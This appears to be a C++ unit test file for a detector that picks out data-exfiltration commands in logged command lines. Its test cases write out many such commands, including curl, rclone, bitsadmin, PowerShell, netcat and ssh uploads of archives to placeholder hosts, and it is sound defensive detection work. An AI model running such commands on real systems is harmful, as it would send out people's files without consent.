#include "collector/module/transfer_command.h"

#include <gmock/gmock.h>

namespace hozen {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

struct SendCase {
  std::string_view line, tool, file, destination;
};
class Sending : public testing::TestWithParam<SendCase> {};

TEST_P(Sending, IsKnown) {
  const SendCase& one = GetParam();
  const auto found = transfer_commands(one.line);
  ASSERT_EQ(found.size(), 1U) << one.line;
  EXPECT_EQ(found[0].tool, one.tool);
  if (one.file.empty())
    EXPECT_THAT(found[0].files, IsEmpty());
  else
    EXPECT_THAT(found[0].files, ElementsAre(one.file));
  EXPECT_EQ(found[0].destination, one.destination);
}

INSTANTIATE_TEST_SUITE_P(
    All, Sending,
    testing::Values(
        SendCase{"curl.exe -k -T C:\\t\\1.rar https://h.example/up", "curl", "C:\\t\\1.rar",
                 "https://h.example/up"},
        SendCase{"curl -F \"file=@C:\\t\\1.rar\" https://h.example", "curl", "C:\\t\\1.rar",
                 "https://h.example"},
        SendCase{"cmd /c curl --data-binary @1.rar http://192.0.2.1/x", "curl", "1.rar",
                 "http://192.0.2.1/x"},
        SendCase{"rclone.exe copy C:\\data mega:out -q --transfers 9", "Rclone", "C:\\data",
                 "mega:out"},
        SendCase{"rclone --config c.conf copy --max-age 2y \\\\srv\\share mega:x", "Rclone",
                 "\\\\srv\\share", "mega:x"},
        SendCase{"svc.exe copy C:\\data mega:out --no-check-certificate", "Rclone", "C:\\data",
                 "mega:out"},
        SendCase{"pscp -P 22 -pw X C:\\1.rar u@h.example:/tmp", "PSCP", "C:\\1.rar",
                 "u@h.example:/tmp"},
        SendCase{"ftp -v -s:C:\\t\\s.txt 192.0.2.1", "ftp", "", "192.0.2.1"},
        SendCase{"bitsadmin /transfer j /upload /priority high http://h.example/1.rar C:\\1.rar",
                 "BITS", "C:\\1.rar", "http://h.example/1.rar"},
        SendCase{"certreq -Post -config http://h.example C:\\1.rar", "certreq", "C:\\1.rar",
                 "http://h.example"},
        SendCase{"mega-put C:\\1.rar /out", "MEGAcmd", "C:\\1.rar", "/out"},
        SendCase{"cmd /c copy C:\\1.rar \\\\srv\\c$\\temp", "copy to a share", "C:\\1.rar",
                 "\\\\srv\\c$\\temp"},
        SendCase{"(New-Object Net.WebClient).UploadFile('http://h.example/u', 'C:\\t\\1.rar')",
                 "PowerShell (WebClient)", "C:\\t\\1.rar", "http://h.example/u"},
        SendCase{"Invoke-RestMethod -Uri http://h.example/u -Method Post -InFile C:\\1.rar",
                 "PowerShell (web request)", "C:\\1.rar", "http://h.example/u"}));

class NotSending : public testing::TestWithParam<const char*> {};
TEST_P(NotSending, IsNone) { EXPECT_THAT(transfer_commands(GetParam()), IsEmpty()); }
INSTANTIATE_TEST_SUITE_P(
    All, NotSending,
    testing::Values("curl -o x.rar https://h.example/x.rar", "curl https://h.example",
                    "curl -d a=b https://h.example", "curl -H \"x: y\" https://h.example",
                    "rclone copy r:x C:\\data", "rclone lsd r:", "rclone copy C:\\a D:\\b",
                    "pscp u@h:/x C:\\", "bitsadmin /transfer j http://h.example/x C:\\x",
                    "copy \\\\srv\\c$\\1.rar C:\\", "copy C:\\a.txt \\\\srv\\x", "copy a.rar b.rar",
                    "ftp h.example", "certreq -submit x.req", "x.exe copy C:\\a r:b",
                    "Invoke-WebRequest http://h.example -OutFile x", "type curl", "xcopy", ""));

TEST(TransferCommand, ValuesOfOptionsAreNoAddresses) {
  for (const char* line : {"curl -T g.rar https://h.example/up -x http://proxy:8080",
                           "curl -x http://proxy:8080 -X PUT -sST g.rar https://h.example/up",
                           "curl --request PUT -H \"A: b\" -u u:p -T g.rar https://h.example/up",
                           "curl -A agent -b c=d -o out.txt -e http://r -Tg.rar --url "
                           "https://h.example/up"}) {
    const auto found = transfer_commands(line);
    ASSERT_EQ(found.size(), 1U) << line;
    EXPECT_EQ(found[0].destination, "https://h.example/up") << line;
    EXPECT_THAT(found[0].files, ElementsAre("g.rar")) << line;
  }
}

TEST(TransferCommand, OfPowerShellOnlyWhatTheCommandItselfSends) {
  auto found = transfer_commands(
      "Start-Transcript -Path \"C:\\T\\log.txt\"; Invoke-RestMethod -Uri https://h.example/u "
      "-Method Post -InFile $f");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_THAT(found[0].files, IsEmpty());
  EXPECT_EQ(found[0].destination, "https://h.example/u");
  found = transfer_commands(
      "Start-Transcript -Path \"C:\\T\\log.txt\"\n$r = (Invoke-RestMethod -InFile C:\\T\\1.rar "
      "-Uri 'https://h.example/u')\nCopy-Item 'C:\\a\\b.rar' C:\\c");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_THAT(found[0].files, ElementsAre("C:\\T\\1.rar"));
  found = transfer_commands(
      "$p = 'C:\\x\\y.txt'; Start-BitsTransfer -Source \"C:\\a b\\1.rar\" -Destination "
      "http://h.example/u -TransferType Upload");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_THAT(found[0].files, ElementsAre("C:\\a b\\1.rar"));
  EXPECT_EQ(found[0].destination, "http://h.example/u");
  EXPECT_THAT(transfer_commands("Invoke-RestMethod https://h.example; x -InFile C:\\1.rar"),
              IsEmpty());
}

TEST(TransferCommand, OfBitsInPowerShellWithoutNames) {
  for (const char* line :
       {"Start-BitsTransfer C:\\p\\1.rar http://203.0.113.9/u -TransferType Upload",
        "Start-BitsTransfer -TransferT UploadReply -Source C:\\p\\1.rar -Destination "
        "http://203.0.113.9/u",
        "Import-Module BitsTransfer\nStart-BitsTransfer 'C:\\p\\1.rar' 'http://203.0.113.9/u' "
        "-TransferType Upload -Asynchronous"}) {
    const auto found = transfer_commands(line);
    ASSERT_EQ(found.size(), 1U) << line;
    EXPECT_THAT(found[0].files, ElementsAre("C:\\p\\1.rar")) << line;
    EXPECT_EQ(found[0].destination, "http://203.0.113.9/u") << line;
  }
  for (const char* line : {"Start-BitsTransfer http://203.0.113.9/u C:\\p\\1.rar",
                           "Start-BitsTransfer -Source http://h/u -Destination C:\\upload\\1.rar"})
    EXPECT_THAT(transfer_commands(line), IsEmpty()) << line;
}

TEST(TransferCommand, StepsOfJobsOfBits) {
  const auto step_of = [](std::string_view line) {
    const auto found = transfer_commands(line);
    if (found.size() != 1) return std::string{"none"};
    constexpr std::string_view kSteps[] = {"whole", "sends", "fetches", "file"};
    return std::string{kSteps[static_cast<std::size_t>(found[0].step)]} + " " + found[0].job;
  };
  EXPECT_EQ(step_of("bitsadmin /create /upload j1"), "sends j1");
  EXPECT_EQ(step_of("bitsadmin.exe /rawreturn /create /UPLOAD-REPLY \"my job\""), "sends my job");
  EXPECT_EQ(step_of("bitsadmin /create j1"), "fetches j1");
  EXPECT_EQ(step_of("bitsadmin /create /download j1"), "fetches j1");
  EXPECT_EQ(step_of("bitsadmin /addfile j1 http://203.0.113.9/u C:\\p\\1.rar"), "file j1");
  EXPECT_EQ(step_of("bitsadmin /transfer j1 /upload http://203.0.113.9/u C:\\p\\1.rar"), "whole ");
  EXPECT_EQ(step_of("bitsadmin /resume j1"), "none");
  EXPECT_EQ(step_of("bitsadmin /addfile j1 http://203.0.113.9/u"), "none");
}

TEST(TransferCommand, FilesOfOneCommandAreLimitedAndCounted) {
  std::string line = "curl https://h.example";
  for (std::size_t i = 0; i < kMaxTransferFiles + 3; ++i)
    line += " -T C:\\D\\" + std::to_string(i) + ".zip";
  const auto found = transfer_commands(line);
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].files.size(), kMaxTransferFiles);
  EXPECT_EQ(found[0].left_out, 3U);
}

TEST(TransferCommand, LongScriptsAreReadSoon) {
  std::string script;
  for (int i = 0; i < 200'000; ++i) script += "iwr 'a' ";
  EXPECT_THAT(transfer_commands(script + "-InFile x.rar"), IsEmpty());
}

TEST(TransferCommand, RobocopyOfAnArchiveToAShare) {
  const auto found = transfer_commands("robocopy C:\\PerfLogs \\\\srv\\x 1.rar /Z");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_THAT(found[0].files, ElementsAre("C:\\PerfLogs\\1.rar"));
  EXPECT_THAT(transfer_commands("robocopy D:\\x \\\\srv\\b /MIR"), IsEmpty());
}

TEST(TransferCommand, TellsNoPasswords) {
  const auto found = transfer_commands("curl -T 1.rar ftp://u:S3cret@h.example/");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_THAT(found[0].destination, Not(HasSubstr("S3cret")));
}

TEST(TransferCommand, OfWinScp) {
  const auto found =
      transfer_commands("winscp.com /command \"open sftp://u@h.example/\" \"put C:\\1.rar /x/\"");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_THAT(found[0].files, ElementsAre("C:\\1.rar"));
  EXPECT_EQ(found[0].destination, "sftp://u@h.example/");
}

TEST(TransferCommand, ToolsByTheirNames) {
  EXPECT_EQ(transfer_tool("C:\\x\\WinSCP.exe"), "WinSCP");
  EXPECT_EQ(transfer_tool("MEGASYNC.EXE"), "MEGAsync");
  EXPECT_EQ(transfer_tool("C:\\Windows\\System32\\curl.exe"), "");
  EXPECT_EQ(transfer_tool("xcopy.exe"), "");
}

struct SentCase {
  std::string_view line, tool, destination, file;
};
class OtherWaysOut : public testing::TestWithParam<SentCase> {};
TEST_P(OtherWaysOut, AreTransfers) {
  const SentCase& one = GetParam();
  const auto found = transfer_commands(one.line);
  ASSERT_EQ(found.size(), 1U) << one.line;
  EXPECT_EQ(found[0].tool, one.tool) << one.line;
  EXPECT_EQ(found[0].destination, one.destination) << one.line;
  ASSERT_FALSE(found[0].files.empty()) << one.line;
  EXPECT_EQ(found[0].files.back(), one.file) << one.line;
}
INSTANTIATE_TEST_SUITE_P(
    All, OtherWaysOut,
    testing::Values(SentCase{"xcopy C:\\HR \\\\203.0.113.9\\s\\ /s", "copy to a share",
                             "\\\\203.0.113.9\\s\\", "C:\\HR"},
                    SentCase{"robocopy C:\\HR \\\\203.0.113.9\\s /e", "copy to a share",
                             "\\\\203.0.113.9\\s", "C:\\HR"},
                    SentCase{"nc 203.0.113.9 443 < C:\\PerfLogs\\1.rar", "netcat", "203.0.113.9",
                             "C:\\PerfLogs\\1.rar"},
                    SentCase{"aws s3 cp C:\\a.rar s3://b/a --endpoint-url https://203.0.113.9",
                             "AWS CLI", "https://203.0.113.9", "C:\\a.rar"},
                    SentCase{"type C:\\PerfLogs\\1.rar | ncat 203.0.113.9 443", "netcat",
                             "203.0.113.9", "C:\\PerfLogs\\1.rar"},
                    SentCase{"azcopy copy C:\\a.rar \"https://x.blob.core.windows.net/c?sv=1\"",
                             "AzCopy", "https://x.blob.core.windows.net/c?sv=1", "C:\\a.rar"},
                    SentCase{"tar czf - C:\\HR | ssh root@203.0.113.9 \"cat > x.tgz\"", "SSH",
                             "root@203.0.113.9", "C:\\HR"}));

TEST(TransferCommand, WhatComesInOrStaysIsNone) {
  for (const std::string_view line :
       {"xcopy C:\\HR \\\\nas01\\s\\ /s", "xcopy C:\\HR \\\\10.0.0.9\\s\\ /s", "nc -l -p 443",
        "aws s3 cp s3://b/a C:\\a", "type x | ssh root@h uptime", "ssh root@h \"cat > x\""})
    EXPECT_TRUE(transfer_commands(line).empty()) << line;
}

}  // namespace
}  // namespace hozen
